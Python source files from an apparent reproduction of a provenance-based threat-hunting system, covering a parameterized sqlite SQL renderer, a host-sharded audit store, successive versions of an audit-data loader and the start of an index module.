    @staticmethod
    def _qualified(column: Column, alias: str | None) -> str:
        # Cross-filter columns arrive pre-qualified ("e1.starttime"); leave
        # them alone.  Bare names get the current alias prefix.
        if alias is None or "." in column.name:
            return column.name
        return f"{alias}.{column.name}"

    def _emit(self, expression: Expression, alias: str | None) -> str:
        """Emit one occurrence of an operand, appending its parameters."""
        text, params = self._operand(expression, alias)
        self.parameters.extend(params)
        return text

    def _emit_stripped(self, expression: Expression, alias: str | None) -> str:
        """Emit an operand with sqlite column affinity stripped (unary ``+``).

        Without this, comparing an INTEGER-affinity column against a text
        parameter silently converts the parameter to a number — the exact
        coercion divergence the renderer exists to pin down.
        """
        text = self._emit(expression, alias)
        return f"+{text}" if isinstance(expression, Column) else text

    # -- node renderers ----------------------------------------------------

    def _comparison(self, comparison: Comparison, alias: str | None) -> str:
        left, right = comparison.left, comparison.right
        if not self.parameterized:
            left_text, _ = self._operand(left, alias)
            right_text, _ = self._operand(right, alias)
            return f"{left_text} {comparison.operator} {right_text}"
        if isinstance(left, Literal) and isinstance(right, Literal):
            # Constant comparison: fold it through the Python semantics.
            return "1=1" if comparison.evaluate({}) else "0=1"
        if (isinstance(left, Literal) and left.value is None) or (
            isinstance(right, Literal) and right.value is None
        ):
            return "0=1"
        guards = [
            f"{self._emit(side, alias)} IS NOT NULL"
            for side in (left, right)
            if not isinstance(side, Literal)
        ]
        coerced = self._coercing_comparison(left, comparison.operator, right, alias)
        return "(" + " AND ".join(guards + [coerced]) + ")"

    def _coercing_comparison(
        self, left: Expression, operator: str, right: Expression, alias: str | None
    ) -> str:
        """Compare two non-null operands the way ``Comparison.evaluate`` does.

        Python coerces mixed string/non-string operands to strings; in SQL
        that branch is decided at runtime with ``typeof`` (statically when an
        operand is a literal of known type).
        """

        def occurrence(side: Expression) -> str:
            return self._emit_stripped(side, alias)

        def direct() -> str:
            return f"{occurrence(left)} {operator} {occurrence(right)}"

        def cast() -> str:
            return (
                f"CAST({occurrence(left)} AS TEXT) {operator} "
                f"CAST({occurrence(right)} AS TEXT)"
            )

        left_is_text = (
            isinstance(left.value, str) if isinstance(left, Literal) else None
        )
        right_is_text = (
            isinstance(right.value, str) if isinstance(right, Literal) else None
        )
        if left_is_text is None and right_is_text is None:
            test = (
                f"(typeof({occurrence(left)}) = 'text') = "
                f"(typeof({occurrence(right)}) = 'text')"
            )
            return f"CASE WHEN {test} THEN {direct()} ELSE {cast()} END"
        if left_is_text is None:
            dynamic_side, static_is_text = left, bool(right_is_text)
        else:
            dynamic_side, static_is_text = right, bool(left_is_text)
        test = f"typeof({occurrence(dynamic_side)}) = 'text'"
        if static_is_text:
            then_branch, else_branch = direct(), cast()
        else:
            then_branch, else_branch = cast(), direct()
        return f"CASE WHEN {test} THEN {then_branch} ELSE {else_branch} END"

    def _like(self, like: Like, alias: str | None) -> str:
        keyword = "NOT LIKE" if like.negate else "LIKE"
        canonical = canonical_like_pattern(like.pattern)
        if not self.parameterized:
            operand_text, _ = self._operand(like.operand, alias)
            escaped = canonical.replace("'", "''")
            rendered = f"{operand_text} {keyword} '{escaped}'"
            if LIKE_ESCAPE_CHAR in canonical:
                rendered += f" ESCAPE '{LIKE_ESCAPE_CHAR}'"
            return rendered
        guard = f"{self._emit(like.operand, alias)} IS NOT NULL"
        operand = self._emit_stripped(like.operand, alias)
        self.parameters.append(canonical)
        return f"({guard} AND {operand} {keyword} ? ESCAPE '{LIKE_ESCAPE_CHAR}')"

    def _in_list(self, membership: InList, alias: str | None) -> str:
        if not self.parameterized:
            if not membership.values:
                return "1=1" if membership.negate else "1=0"
            keyword = "NOT IN" if membership.negate else "IN"
            operand_text, _ = self._operand(membership.operand, alias)
            rendered = ", ".join(Literal(v).to_sql() for v in membership.values)
            return f"{operand_text} {keyword} ({rendered})"
        non_null = tuple(v for v in membership.values if v is not None)
        has_null = len(non_null) != len(membership.values)
        terms: list[str] = []
        if non_null:
            guard = f"{self._emit(membership.operand, alias)} IS NOT NULL"
            operand = self._emit_stripped(membership.operand, alias)
            placeholders = ", ".join("?" for _ in non_null)
            self.parameters.extend(non_null)
            terms.append(f"({guard} AND {operand} IN ({placeholders}))")
        if has_null:
            terms.append(f"{self._emit(membership.operand, alias)} IS NULL")
        if not terms:
            containment = "0=1"
        elif len(terms) == 1:
            containment = terms[0]
        else:
            containment = "(" + " OR ".join(terms) + ")"
        return f"NOT ({containment})" if membership.negate else containment

    def _between(self, between: Between, alias: str | None) -> str:
        low_sql = Literal(between.low).to_sql()
        high_sql = Literal(between.high).to_sql()
        if not self.parameterized:
            operand_text, _ = self._operand(between.operand, alias)
            return f"{operand_text} BETWEEN {low_sql} AND {high_sql}"
        guard = f"{self._emit(between.operand, alias)} IS NOT NULL"
        operand = self._emit_stripped(between.operand, alias)
        self.parameters.extend((between.low, between.high))
        return f"({guard} AND {operand} BETWEEN ? AND ?)"

    def _connective(
        self, operands: tuple[Expression, ...], keyword: str, alias: str | None
    ) -> str:
        if not operands:
            if self.parameterized:
                return "1=1" if keyword == "AND" else "0=1"
            return "TRUE" if keyword == "AND" else "FALSE"
        rendered = f" {keyword} ".join(
            f"({self.predicate(operand, alias)})" for operand in operands
        )
        return rendered if not self.parameterized else f"({rendered})"


def render_expression(
    expression: Expression, alias: str | None = None, parameterized: bool = True
) -> RenderedSQL:
    """Render one predicate expression on its own (tests, ad-hoc tooling)."""
    renderer = ExpressionRenderer(parameterized)
    text = renderer.predicate(expression, alias)
    return RenderedSQL(text=text, parameters=tuple(renderer.parameters))


def render_select_query(
    query: SelectQuery, parameterized: bool = True, pretty: bool = False
) -> RenderedSQL:
    """Render a :class:`SelectQuery` as a SQL SELECT statement.

    Args:
        query: The logical query to render.
        parameterized: Executable mode with ``?`` placeholders when True;
            legacy inline explain text when False.
        pretty: One clause per line when True; single line otherwise.
    """
    renderer = ExpressionRenderer(parameterized)
    separator = "\n" if pretty else " "
    indent = "  " if pretty else ""

    if query.projection:
        if parameterized:
            # Quote output names: they carry dots ("subject.id") which sqlite
            # would otherwise parse as table qualifiers.
            select_list = ", ".join(
                f'{output.alias}.{output.column} AS "{output.output_name}"'
                for output in query.projection
            )
        else:
            select_list = ", ".join(output.to_sql() for output in query.projection)
    else:
        select_list = "*"
    select_clause = "SELECT " + ("DISTINCT " if query.distinct else "") + select_list

    from_clause = "FROM " + ", ".join(
        f"{ref.table} {ref.alias}" for ref in query.tables
    )

    where_terms: list[str] = []
    for alias in query.aliases():
        alias_filter = query.filters.get(alias)
        if alias_filter is None:
            continue
        rendered = renderer.predicate(alias_filter, alias)
        if rendered not in ("TRUE", "1=1"):
            where_terms.append(rendered)
    where_terms.extend(join.to_sql() for join in query.joins)
    where_terms.extend(
        renderer.predicate(predicate, None) for predicate in query.cross_filters
    )

    clauses = [select_clause, from_clause]
    if where_terms:
        glue = f"{separator}{indent}AND "
        clauses.append("WHERE " + glue.join(where_terms))
    if query.order_by:
        clauses.append(
            "ORDER BY " + ", ".join(term.to_sql() for term in query.order_by)
        )
    if query.limit is not None:
        clauses.append(f"LIMIT {int(query.limit)}")
    return RenderedSQL(
        text=separator.join(clauses) + ";",
        parameters=tuple(renderer.parameters),
    )
