"""sqlite3-backed SQL execution backend (``backend="sql"``)."""

from repro.storage.sql.database import SqliteRelationalDatabase
from repro.storage.sql.render import (
    ExpressionRenderer,
    RenderedSQL,
    render_expression,
    render_select_query,
)

__all__ = [
    "ExpressionRenderer",
    "RenderedSQL",
    "SqliteRelationalDatabase",
    "render_expression",
    "render_select_query",
]
