"""Host-partitioned audit storage: N child :class:`AuditStore` shards.

The paper's deployment target — "millions of users" streaming audit data into
one hunting service — does not fit a single store.  :class:`ShardedAuditStore`
keeps the :class:`~repro.storage.loader.AuditStore` API (``load_trace`` /
``append_batch`` / ``flush`` / ``loaded_trace`` / ``statistics``) while
partitioning events across child stores by **host** (the tenant key of this
reproduction's audit schema):

* Routing is ``crc32(host) % shards`` — deterministic across processes, which
  the built-in ``hash()`` is not (per-process randomization would scatter a
  host's events differently on every restart).
* Events never leave their host's shard, and Causality Preserved Reduction
  only ever merges events of one ⟨subject, object⟩ pair — same host by
  construction — so per-shard reduction produces exactly the events a global
  reduction would.
* Entities referenced by an event (its subject and object) are **replicated**
  into the event's shard so per-shard query execution can join locally; child
  stores deduplicate entities by id, which makes replication idempotent.

Each shard gets its own relational + graph backends (and, with
``storage="segments"``, its own ``shard-<i>/`` data subdirectory); the
execution engine runs per shard and results merge upstream (see
:class:`~repro.tbql.prepared.ShardedPreparedQuery`).
"""

from __future__ import annotations

import zlib
from pathlib import Path
from typing import Any, Iterable

from repro.auditing.entities import SystemEntity
from repro.auditing.events import SystemEvent
from repro.auditing.trace import AuditTrace
from repro.errors import StorageError
from repro.storage.loader import AppendReport, AuditStore, LoadReport
from repro.storage.segment.database import DEFAULT_SEGMENT_ROWS


def shard_for_host(host: str, shards: int) -> int:
    """Deterministic shard index for ``host`` (stable across processes)."""
    return zlib.crc32(host.encode("utf-8")) % shards


def _merge_numeric(target: dict[str, Any], source: dict[str, Any]) -> None:
    for key, value in source.items():
        existing = target.get(key)
        if isinstance(value, dict):
            if not isinstance(existing, dict):
                existing = {}
                target[key] = existing
            _merge_numeric(existing, value)
        elif (
            isinstance(value, (int, float))
            and not isinstance(value, bool)
            and isinstance(existing, (int, float))
            and not isinstance(existing, bool)
        ):
            target[key] = existing + value
        else:
            target[key] = value


class ShardedAuditStore:
    """N host-partitioned child :class:`AuditStore` shards behind one API.

    Args:
        shards: Number of child stores (>= 1).
        data_dir: With ``storage="segments"``, the parent directory under
            which each shard owns a ``shard-<i>/`` subdirectory.
        Remaining arguments are forwarded to every child store.
    """

    def __init__(
        self,
        shards: int = 2,
        apply_reduction: bool = True,
        merge_window_ns: int | None = 10_000_000_000,
        relational_executor: str = "vectorized",
        storage: str = "memory",
        data_dir: str | Path | None = None,
        segment_rows: int = DEFAULT_SEGMENT_ROWS,
    ) -> None:
        if shards < 1:
            raise StorageError(f"shard count must be positive, got {shards}")
        self.shard_count = shards
        self.storage = storage
        self.data_dir = Path(data_dir) if data_dir is not None else None

        def shard_dir(index: int) -> Path | None:
            if self.data_dir is None:
                return None
            return self.data_dir / f"shard-{index}"

        self.shard_stores: tuple[AuditStore, ...] = tuple(
            AuditStore(
                apply_reduction=apply_reduction,
                merge_window_ns=merge_window_ns,
                relational_executor=relational_executor,
                storage=storage,
                data_dir=shard_dir(index),
                segment_rows=segment_rows,
            )
            for index in range(shards)
        )
        #: Every entity ever seen, by id — the replication source that lets an
        #: event carry its endpoints into a shard that has not met them yet.
        self._entity_cache: dict[int, SystemEntity] = {}
        for store in self.shard_stores:
            trace = store.loaded_trace
            if trace is not None:
                for entity in trace.entities:
                    self._entity_cache.setdefault(entity.entity_id, entity)

    # -- routing ---------------------------------------------------------------

    def shard_for(self, host: str | None) -> int:
        return shard_for_host(host or "localhost", self.shard_count)

    def _route(
        self, entities: Iterable[SystemEntity], events: Iterable[SystemEvent]
    ) -> list[tuple[list[SystemEntity], list[SystemEvent]]]:
        """Split one batch into per-shard (entities, events) slices.

        An entity lands in its own host's shard *and* in the shard of every
        routed event that references it; children dedup by id.
        """
        routed: list[tuple[list[SystemEntity], list[SystemEvent]]] = [
            ([], []) for _ in range(self.shard_count)
        ]
        sent: list[set[int]] = [set() for _ in range(self.shard_count)]

        def send_entity(index: int, entity: SystemEntity) -> None:
            if entity.entity_id not in sent[index]:
                sent[index].add(entity.entity_id)
                routed[index][0].append(entity)

        for entity in entities:
            self._entity_cache.setdefault(entity.entity_id, entity)
            send_entity(self.shard_for(entity.host), entity)
        for event in events:
            index = self.shard_for(event.host)
            routed[index][1].append(event)
            for entity_id in (event.subject_id, event.object_id):
                endpoint = self._entity_cache.get(entity_id)
                if endpoint is not None:
                    send_entity(index, endpoint)
        return routed

    # -- loading ---------------------------------------------------------------

    def reset(self) -> None:
        """Drop all stored data in every shard."""
        for store in self.shard_stores:
            store.reset()
        self._entity_cache.clear()

    def load_trace(self, trace: AuditTrace, append: bool = False) -> LoadReport:
        """Partition one audit trace across the shards and load each slice."""
        if not append:
            self.reset()
        routed = self._route(trace.entities, trace.events)
        malicious = set(trace.malicious_event_ids)
        merged = LoadReport(relational_rows={}, graph_counts={})
        for store, (entities, events) in zip(self.shard_stores, routed):
            slice_trace = AuditTrace(
                host=trace.host,
                entities=entities,
                events=events,
                malicious_event_ids={
                    event.event_id for event in events if event.event_id in malicious
                },
            )
            report = store.load_trace(slice_trace, append=append)
            _merge_numeric(merged.relational_rows, report.relational_rows)
            _merge_numeric(merged.graph_counts, report.graph_counts)
            if report.reduction is not None:
                if merged.reduction is None:
                    merged.reduction = report.reduction
                else:
                    merged.reduction = type(report.reduction)(
                        events_before=merged.reduction.events_before
                        + report.reduction.events_before,
                        events_after=merged.reduction.events_after
                        + report.reduction.events_after,
                    )
        return merged

    def append_batch(
        self,
        entities: Iterable[SystemEntity],
        events: Iterable[SystemEvent],
        malicious_event_ids: Iterable[int] = (),
    ) -> AppendReport:
        """Route one micro-batch to its shards; merge the per-shard reports."""
        routed = self._route(entities, events)
        malicious = set(malicious_event_ids)
        merged = AppendReport()
        for store, (shard_entities, shard_events) in zip(self.shard_stores, routed):
            if not shard_entities and not shard_events:
                continue
            report = store.append_batch(
                shard_entities, shard_events, malicious_event_ids=malicious
            )
            merged.appended_entities += report.appended_entities
            merged.appended_events += report.appended_events
            merged.stored_events.extend(report.stored_events)
            merged.events_ingested += report.events_ingested
        merged.pending_events = self.pending_events
        return merged

    def flush(self) -> AppendReport:
        """Flush every shard's pending events; merge the reports."""
        merged = AppendReport()
        for store in self.shard_stores:
            report = store.flush()
            merged.appended_entities += report.appended_entities
            merged.appended_events += report.appended_events
            merged.stored_events.extend(report.stored_events)
            merged.events_ingested += report.events_ingested
        merged.pending_events = self.pending_events
        return merged

    # -- combined views --------------------------------------------------------

    @property
    def pending_events(self) -> int:
        return sum(store.pending_events for store in self.shard_stores)

    @property
    def loaded_trace(self) -> AuditTrace | None:
        """A merged view of every shard's (reduced) stored trace.

        Events are ordered by (start time, id) and entities by id so the view
        is deterministic regardless of shard layout; replicated entities
        appear once.
        """
        traces = [
            store.loaded_trace for store in self.shard_stores if store.loaded_trace
        ]
        if not traces:
            return None
        entities: dict[int, SystemEntity] = {}
        events: list[SystemEvent] = []
        malicious: set[int] = set()
        for trace in traces:
            for entity in trace.entities:
                entities.setdefault(entity.entity_id, entity)
            events.extend(trace.events)
            malicious |= trace.malicious_event_ids
        return AuditTrace(
            host=traces[0].host,
            entities=[entities[key] for key in sorted(entities)],
            events=sorted(events, key=lambda event: (event.start_time, event.event_id)),
            malicious_event_ids=malicious,
        )

    def statistics(self) -> dict[str, Any]:
        """Numerically merged backend statistics, plus per-shard detail."""
        merged: dict[str, Any] = {}
        per_shard: list[dict[str, Any]] = []
        for store in self.shard_stores:
            stats = store.statistics()
            per_shard.append(stats)
            _merge_numeric(merged, stats)
        merged["shards"] = {
            "count": self.shard_count,
            "stores": per_shard,
        }
        return merged


__all__ = ["ShardedAuditStore", "shard_for_host"]
