"""Storage component: relational (PostgreSQL-like) and graph (Neo4j-like) backends."""

from repro.storage.graph import GraphDatabase
from repro.storage.loader import AppendReport, AuditStore, LoadReport
from repro.storage.relational import RelationalDatabase

__all__ = ["AppendReport", "AuditStore", "GraphDatabase", "LoadReport", "RelationalDatabase"]
