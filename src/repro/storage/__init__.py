"""Storage component: relational (PostgreSQL-like) and graph (Neo4j-like) backends."""

from repro.storage.graph import GraphDatabase
from repro.storage.loader import AuditStore, LoadReport
from repro.storage.relational import RelationalDatabase

__all__ = ["AuditStore", "GraphDatabase", "LoadReport", "RelationalDatabase"]
