"""Storage component: relational (PostgreSQL-like) and graph (Neo4j-like) backends."""

from repro.storage.graph import GraphDatabase
from repro.storage.loader import AppendReport, AuditStore, LoadReport
from repro.storage.relational import RelationalDatabase
from repro.storage.segment import SegmentedRelationalDatabase
from repro.storage.sharded import ShardedAuditStore, shard_for_host

__all__ = [
    "AppendReport",
    "AuditStore",
    "GraphDatabase",
    "LoadReport",
    "RelationalDatabase",
    "SegmentedRelationalDatabase",
    "ShardedAuditStore",
    "shard_for_host",
]
