"""Audit-data loader: parsed traces → relational and graph backends.

ThreatRaptor stores each trace in both PostgreSQL (tables) and Neo4j (nodes
and edges) and applies Causality Preserved Reduction "to reduce the data size"
before storage.  :class:`AuditStore` bundles the two backends of this
reproduction behind one loading and statistics interface so the TBQL execution
engine can be handed a single object.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from repro.auditing.reduction import CausalityPreservedReducer, ReductionStats
from repro.auditing.trace import AuditTrace
from repro.storage.graph.graphdb import GraphDatabase
from repro.storage.relational.database import RelationalDatabase


@dataclass
class LoadReport:
    """What happened during one trace load."""

    relational_rows: dict[str, int] = field(default_factory=dict)
    graph_counts: dict[str, int] = field(default_factory=dict)
    reduction: ReductionStats | None = None


class AuditStore:
    """The combined storage component: relational + graph backends.

    Args:
        apply_reduction: Run Causality Preserved Reduction before loading.
        merge_window_ns: CPR merge window (see
            :class:`~repro.auditing.reduction.CausalityPreservedReducer`).
    """

    def __init__(
        self,
        apply_reduction: bool = True,
        merge_window_ns: int | None = 10_000_000_000,
    ) -> None:
        self.relational = RelationalDatabase()
        self.graph = GraphDatabase()
        self._apply_reduction = apply_reduction
        self._reducer = CausalityPreservedReducer(merge_window_ns=merge_window_ns)
        self._loaded_trace: AuditTrace | None = None

    def load_trace(self, trace: AuditTrace) -> LoadReport:
        """Load one audit trace into both backends.

        When reduction is enabled the reduced trace is what gets stored (and
        what :attr:`loaded_trace` returns), matching the paper's deployment.
        """
        report = LoadReport()
        to_load = trace
        if self._apply_reduction:
            to_load, report.reduction = self._reducer.reduce(trace)
        report.relational_rows = self.relational.load_trace(to_load)
        report.graph_counts = self.graph.load_trace(to_load)
        self._loaded_trace = to_load
        return report

    @property
    def loaded_trace(self) -> AuditTrace | None:
        """The (possibly reduced) trace currently held by the store."""
        return self._loaded_trace

    def statistics(self) -> dict[str, Any]:
        """Combined backend statistics."""
        return {
            "relational": self.relational.statistics(),
            "graph": self.graph.statistics(),
        }
