"""Audit-data loader: parsed traces → relational and graph backends.

ThreatRaptor stores each trace in both PostgreSQL (tables) and Neo4j (nodes
and edges) and applies Causality Preserved Reduction "to reduce the data size"
before storage.  :class:`AuditStore` bundles the two backends of this
reproduction behind one loading and statistics interface so the TBQL execution
engine can be handed a single object.

Two loading modes are supported:

* **whole-trace loads** (:meth:`AuditStore.load_trace`) — the batch path the
  paper demonstrates.  Loading replaces whatever the store held before, so
  repeated loads are well-defined;
* **incremental appends** (:meth:`AuditStore.append_batch`) — the streaming
  path used by :mod:`repro.streaming`.  Micro-batches of events are run
  through an :class:`~repro.auditing.reduction.IncrementalReducer` whose
  merge-window state persists across batches, so the stored event set matches
  what one whole-trace reduction would have produced.  Events still awaiting a
  merge decision stay *pending* (not yet visible to queries) until sealed by
  later batches or an explicit :meth:`AuditStore.flush`.
"""

from __future__ import annotations

import tempfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Iterable

from repro.auditing.entities import SystemEntity, entity_from_row
from repro.auditing.events import SystemEvent, event_from_row
from repro.auditing.reduction import CausalityPreservedReducer, ReductionStats
from repro.auditing.trace import AuditTrace
from repro.errors import StorageError
from repro.storage.graph.graphdb import GraphDatabase
from repro.storage.relational.database import RelationalDatabase
from repro.storage.sql.database import SqliteRelationalDatabase
from repro.storage.segment.database import DEFAULT_SEGMENT_ROWS, SegmentedRelationalDatabase


@dataclass
class LoadReport:
    """What happened during one trace load."""

    relational_rows: dict[str, int] = field(default_factory=dict)
    graph_counts: dict[str, int] = field(default_factory=dict)
    reduction: ReductionStats | None = None


@dataclass
class AppendReport:
    """What happened during one incremental append (or flush).

    Attributes:
        appended_entities: New entities stored by this call.
        appended_events: Events sealed and stored by this call.  With
            reduction enabled these are merged representatives, and events can
            seal in a *later* batch than the one that ingested them.
        stored_events: The sealed events themselves, for consumers (e.g. the
            standing-query monitor) that need the new data's time range.
        events_ingested: Raw events handed to this call before reduction.
        pending_events: Events still buffered by the incremental reducer.
    """

    appended_entities: int = 0
    appended_events: int = 0
    stored_events: list[SystemEvent] = field(default_factory=list)
    events_ingested: int = 0
    pending_events: int = 0


class AuditStore:
    """The combined storage component: relational + graph backends.

    Args:
        apply_reduction: Run Causality Preserved Reduction before loading.
        merge_window_ns: CPR merge window (see
            :class:`~repro.auditing.reduction.CausalityPreservedReducer`).
        relational_executor: ``"vectorized"`` (columnar engine),
            ``"reference"`` (row-dict oracle) — see
            :class:`~repro.storage.relational.database.RelationalDatabase` —
            or ``"sql"`` (the sqlite3-backed
            :class:`~repro.storage.sql.database.SqliteRelationalDatabase`;
            memory storage only).
        storage: ``"memory"`` (the in-memory relational store, the default) or
            ``"segments"`` (the durable
            :class:`~repro.storage.segment.database.SegmentedRelationalDatabase`).
        data_dir: Segment data directory.  Only meaningful with
            ``storage="segments"``; when omitted the store owns a temporary
            directory for its lifetime (durable across :meth:`reset`, not
            across processes).  Reopening a directory that already holds
            sealed segments rehydrates both backends from it.
        segment_rows: Memtable seal threshold for the segmented store.
    """

    def __init__(
        self,
        apply_reduction: bool = True,
        merge_window_ns: int | None = 10_000_000_000,
        relational_executor: str = "vectorized",
        storage: str = "memory",
        data_dir: str | Path | None = None,
        segment_rows: int = DEFAULT_SEGMENT_ROWS,
    ) -> None:
        if storage not in ("memory", "segments"):
            raise StorageError(f"unknown storage backend {storage!r}")
        self.storage = storage
        self._owned_data_dir: tempfile.TemporaryDirectory[str] | None = None
        self.relational: (
            RelationalDatabase | SegmentedRelationalDatabase | SqliteRelationalDatabase
        )
        if storage == "segments":
            if relational_executor == "sql":
                raise StorageError(
                    "relational_executor='sql' keeps rows inside sqlite and "
                    "cannot be combined with storage='segments'"
                )
            if data_dir is None:
                self._owned_data_dir = tempfile.TemporaryDirectory(prefix="segments-")
                data_dir = self._owned_data_dir.name
            self.data_dir: Path | None = Path(data_dir)
            self.relational = SegmentedRelationalDatabase(
                self.data_dir, executor=relational_executor, segment_rows=segment_rows
            )
        elif relational_executor == "sql":
            self.data_dir = None
            self.relational = SqliteRelationalDatabase()
        else:
            self.data_dir = None
            self.relational = RelationalDatabase(executor=relational_executor)
        self.graph = GraphDatabase()
        self._apply_reduction = apply_reduction
        self._reducer = CausalityPreservedReducer(merge_window_ns=merge_window_ns)
        self._incremental = self._reducer.incremental() if apply_reduction else None
        self._loaded_trace: AuditTrace | None = None
        self._owns_loaded_trace = False
        self._known_entity_ids: set[int] = set()
        if storage == "segments":
            self._rehydrate_from_segments()

    def _rehydrate_from_segments(self) -> None:
        """Rebuild in-memory state from rows a reopened data directory holds.

        Persisted rows are post-reduction, so the rehydrated trace is the
        reduced trace the previous process stored; the malicious-event ground
        truth is not part of the audit schema and does not survive restarts.
        """
        assert isinstance(self.relational, SegmentedRelationalDatabase)
        entity_rows = list(self.relational.table("entities").scan())
        event_rows = list(self.relational.table("events").scan())
        if not entity_rows and not event_rows:
            return
        entities = [entity_from_row(row) for row in entity_rows]
        events = [event_from_row(row) for row in event_rows]
        host = entities[0].host if entities else "localhost"
        trace = AuditTrace(host=host, entities=entities, events=events)
        self.graph.load_trace(trace)
        self._loaded_trace = trace
        self._owns_loaded_trace = True
        self._known_entity_ids = {entity.entity_id for entity in entities}

    def reset(self) -> None:
        """Drop all stored data and incremental-reduction state."""
        self.relational.clear()
        self.graph.clear()
        if self._apply_reduction:
            self._incremental = self._reducer.incremental()
        self._loaded_trace = None
        self._owns_loaded_trace = False
        self._known_entity_ids.clear()

    # -- whole-trace loading -------------------------------------------------

    def load_trace(self, trace: AuditTrace, append: bool = False) -> LoadReport:
        """Load one audit trace into both backends.

        By default loading **replaces** the store's contents, so calling
        :meth:`load_trace` twice leaves exactly the second trace stored.  Pass
        ``append=True`` to add the trace to what is already stored instead
        (the incremental path :mod:`repro.streaming` builds on).

        When reduction is enabled the reduced trace is what gets stored (and
        what :attr:`loaded_trace` returns), matching the paper's deployment.
        """
        if append:
            appended = self.append_batch(
                trace.entities, trace.events, malicious_event_ids=trace.malicious_event_ids
            )
            return LoadReport(
                relational_rows={
                    "entities": appended.appended_entities,
                    "events": appended.appended_events,
                },
                graph_counts={
                    "nodes": appended.appended_entities,
                    "edges": appended.appended_events,
                },
                reduction=(
                    self._incremental.statistics() if self._incremental is not None else None
                ),
            )

        self.reset()
        report = LoadReport()
        to_load = trace
        if self._apply_reduction:
            to_load, report.reduction = self._reducer.reduce(trace)
        report.relational_rows = self.relational.load_trace(to_load)
        report.graph_counts = self.graph.load_trace(to_load)
        self._loaded_trace = to_load
        self._owns_loaded_trace = to_load is not trace
        self._known_entity_ids = {entity.entity_id for entity in to_load.entities}
        return report

    # -- incremental loading -------------------------------------------------

    def append_batch(
        self,
        entities: Iterable[SystemEntity],
        events: Iterable[SystemEvent],
        malicious_event_ids: Iterable[int] = (),
    ) -> AppendReport:
        """Append one micro-batch of audit data to both backends.

        New entities are stored immediately (deduplicated against earlier
        batches by id).  Events pass through the incremental reducer first when
        reduction is enabled: only *sealed* events — those that can no longer
        absorb merges — are stored and reported; the rest stay pending until a
        later batch or :meth:`flush` seals them.
        """
        report = AppendReport()
        new_entities = [
            entity for entity in entities if entity.entity_id not in self._known_entity_ids
        ]
        event_list = list(events)
        report.events_ingested = len(event_list)

        malicious = set(malicious_event_ids)
        if self._incremental is not None:
            sealed = self._incremental.ingest(event_list, malicious)
            stored_events = [item.event for item in sealed]
            stored_malicious = {item.event.event_id for item in sealed if item.malicious}
            report.pending_events = self._incremental.pending_count
        else:
            stored_events = event_list
            stored_malicious = {e.event_id for e in event_list if e.event_id in malicious}

        self._store_increment(new_entities, stored_events, stored_malicious, report)
        return report

    def flush(self) -> AppendReport:
        """Seal and store every pending event (end of stream / on demand).

        With segmented storage this also seals the memtable to disk, so a
        flushed store is fully durable regardless of the seal threshold.
        """
        report = AppendReport()
        if self._incremental is not None:
            sealed = self._incremental.flush()
            self._store_increment(
                [],
                [item.event for item in sealed],
                {item.event.event_id for item in sealed if item.malicious},
                report,
            )
        if isinstance(self.relational, SegmentedRelationalDatabase):
            self.relational.seal()
        return report

    def _store_increment(
        self,
        new_entities: list[SystemEntity],
        stored_events: list[SystemEvent],
        stored_malicious: set[int],
        report: AppendReport,
    ) -> None:
        relational = self.relational.append_batch(new_entities, stored_events)
        self.graph.append_batch(new_entities, stored_events)
        report.appended_entities = relational["entities"]
        report.appended_events = relational["events"]
        report.stored_events = stored_events
        if self._incremental is not None:
            report.pending_events = self._incremental.pending_count
        self._known_entity_ids.update(entity.entity_id for entity in new_entities)

        # Accumulate the (reduced) stored data into the held trace.  When the
        # current trace is a caller's object (reduction disabled batch load),
        # copy it first so appends never mutate caller-owned data.
        if self._loaded_trace is None:
            self._loaded_trace = AuditTrace(host=new_entities[0].host if new_entities else "localhost")
            self._owns_loaded_trace = True
        elif not self._owns_loaded_trace:
            previous = self._loaded_trace
            self._loaded_trace = AuditTrace(
                host=previous.host,
                entities=list(previous.entities),
                events=list(previous.events),
                malicious_event_ids=set(previous.malicious_event_ids),
            )
            self._owns_loaded_trace = True
        self._loaded_trace.add_entities(new_entities)
        self._loaded_trace.add_events(stored_events)
        self._loaded_trace.malicious_event_ids.update(stored_malicious)

    @property
    def pending_events(self) -> int:
        """Events buffered by the incremental reducer, not yet queryable."""
        return self._incremental.pending_count if self._incremental is not None else 0

    @property
    def loaded_trace(self) -> AuditTrace | None:
        """The (possibly reduced) trace currently held by the store.

        On the append path this convenience copy grows with every sealed
        event, in addition to the backends' own storage — acceptable for the
        bounded streams the tests and benchmarks replay, but an unbounded
        ``--follow`` deployment that must not keep a third copy should read
        the backends directly instead.
        """
        return self._loaded_trace

    def statistics(self) -> dict[str, Any]:
        """Combined backend statistics."""
        return {
            "relational": self.relational.statistics(),
            "graph": self.graph.statistics(),
        }
