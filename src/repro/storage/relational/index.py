"""Secondary indexes for the relational engine.

Two index flavours are provided, mirroring what the system relies on in
PostgreSQL:

* :class:`HashIndex` — exact-match lookups on one column (entity ids, names,
  operation types).
* :class:`SortedIndex` — a sorted-key index supporting range scans, used for
  the event ``starttime``/``endtime`` columns so time-window filters do not
  scan the whole event table.

Indexes store row positions (offsets into the table's row list), not row
copies, so they stay cheap to maintain.
"""

from __future__ import annotations

from bisect import bisect_left, bisect_right, insort
from collections import defaultdict
from typing import Any, Iterable, Iterator, Sequence

#: Shared empty bucket handed out by :meth:`HashIndex.bucket` for misses.
_EMPTY: tuple[int, ...] = ()


class HashIndex:
    """Exact-match index: value → list of row positions."""

    def __init__(self, column: str) -> None:
        self.column = column
        self._buckets: dict[Any, list[int]] = defaultdict(list)
        self._size = 0

    def insert(self, value: Any, position: int) -> None:
        """Register that ``position`` holds ``value`` in the indexed column."""
        self._buckets[value].append(position)
        self._size += 1

    def lookup(self, value: Any) -> list[int]:
        """Row positions whose indexed column equals ``value``.

        Returns a fresh list: handing out the internal bucket would let
        callers mutate index state through the return value.
        """
        bucket = self._buckets.get(value)
        return list(bucket) if bucket else []

    def bucket(self, value: Any) -> Sequence[int]:
        """Internal zero-copy variant of :meth:`lookup` for the executor's hot
        path.  The returned sequence aliases index state: callers must treat
        it as read-only.
        """
        return self._buckets.get(value, _EMPTY)

    def lookup_many(self, values: Iterable[Any]) -> list[int]:
        """Row positions matching any of ``values`` (deduplicated, ordered)."""
        seen: set[int] = set()
        positions: list[int] = []
        for value in values:
            for position in self._buckets.get(value, ()):
                if position not in seen:
                    seen.add(position)
                    positions.append(position)
        positions.sort()
        return positions

    def __len__(self) -> int:
        return self._size

    def distinct_values(self) -> int:
        """Number of distinct keys, used for selectivity estimation."""
